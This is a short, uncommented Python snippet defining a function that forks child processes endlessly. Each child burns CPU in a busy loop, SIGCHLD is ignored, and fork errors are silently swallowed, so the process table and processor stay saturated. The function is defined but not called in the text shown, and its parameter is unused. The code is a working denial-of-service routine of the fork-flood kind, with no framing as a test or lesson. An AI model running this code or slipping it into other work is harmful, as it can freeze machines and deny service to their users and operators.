import os, signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
def f(n):
    while True:
        try:
            if os.fork() == 0:
                for _ in range(3_000_000):
                    pass
                os._exit(0)
        except OSError:
            pass
